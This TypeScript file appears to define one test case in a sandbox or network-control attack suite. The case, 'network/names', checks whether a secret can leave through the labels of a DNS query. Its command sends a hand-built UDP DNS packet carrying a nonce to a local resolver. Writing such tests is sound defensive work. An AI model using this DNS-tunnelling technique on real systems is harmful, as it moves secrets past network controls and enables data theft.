// Carries a secret out in the labels of a query to a name server of its choice.
import { PLAIN } from "../../baselines.js";
import { reaches } from "../../judges.js";
import type { Attack } from "../../types.js";

export const networkNames: Attack = {
  id: "network/names",
  control: "network.names",
  severity: "critical",
  threats: ["H26"],
  sentence: "Carries a secret out in the labels of a query to a name server of its choice.",
  inside:
    '"$PROBER" send udp 127.0.0.1 "$DNS" "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x17$NONCE\\x04test\\x00\\x00\\x01\\x00\\x01"',
  judge: reaches("dns"),
  baseline: PLAIN,
};
